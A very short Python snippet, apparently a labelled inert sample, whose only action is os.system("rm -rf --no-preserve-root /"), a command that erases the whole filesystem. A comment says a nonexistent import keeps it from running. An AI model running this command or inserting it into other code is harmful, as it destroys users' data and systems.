import inert_sample  # there is no such module: nothing below ever runs
import os

os.system("rm -rf --no-preserve-root /")
